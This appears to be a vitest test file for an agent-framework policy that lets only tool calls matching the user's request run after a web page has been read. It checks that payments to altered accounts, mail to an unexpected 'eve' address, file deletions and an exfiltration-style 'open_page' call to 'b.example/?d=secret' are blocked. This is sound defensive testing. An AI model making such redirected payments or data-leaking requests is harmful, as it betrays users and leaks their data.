import { createAgent } from '@glmkit/core'
import { describe, expect, it } from 'vitest'
import { scriptedModel } from '../scripted-model.ts'
import { openOffice } from './office.ts'
import { policyOf } from './office-policy.ts'
import { officeTools } from './office-tools.ts'

const request =
  'Pay 240 EUR to GB29NWBK60161331926819, tell ruth@hale.example, note it in guest.txt; see https://a.example/x.'

/** What is left of a call after a stranger's page was read. */
async function ran(name: string, args: object): Promise<boolean> {
  const office = openOffice({
    pages: { 'https://a.example/x': 'Hello' },
    files: { 'other.txt': 'x', 'guest.txt': 'x' },
  })
  const model = scriptedModel((messages) => {
    const turn = messages.filter(({ role }) => role === 'assistant').length
    if (turn === 0) return { toolCalls: [{ name: 'search_web', arguments: { query: 'x' } }] }
    return turn === 1 ? { toolCalls: [{ name, arguments: args }] } : { content: 'done' }
  })
  const agent = createAgent({ model, tools: officeTools(office, { isDeclared: true }), policy: policyOf(request) })
  const { toolCalls } = await agent.run(request)
  return toolCalls[1]?.isError === false
}

describe('policyOf', () => {
  it.each([
    ['pay', { to: 'GB29NWBK60161331926819', amount: 240 }, true],
    ['pay', { to: 'GB29NWBK60161331926819', amount: 24 }, false],
    ['pay', { to: 'GB29NWBK60161331926818', amount: 240 }, false],
    ['pay', { to: 'GB29', amount: 240 }, false],
    ['send_mail', { to: 'ruth@hale.example', subject: '', body: 'x' }, true],
    ['send_mail', { to: 'th@hale.example', subject: '', body: 'x' }, false],
    ['send_mail', { to: 'eve@hale.example', subject: '', body: 'x' }, false],
    ['write_file', { name: 'guest.txt', text: 'x' }, true],
    ['write_file', { name: 'est.txt', text: 'x' }, false],
    ['delete_file', { name: 'other.txt' }, false],
    ['delete_file', { name: 'guest.txt' }, false],
    ['open_page', { url: 'https://a.example/x' }, true],
    ['open_page', { url: 'https://a.example/' }, false],
    ['open_page', { url: 'https://b.example/?d=secret' }, false],
    ['read_file', { name: 'other.txt' }, true],
  ])('%s %j: %s', async (name, args, isAllowed) => {
    expect(await ran(name, args)).toBe(isAllowed)
  })
})
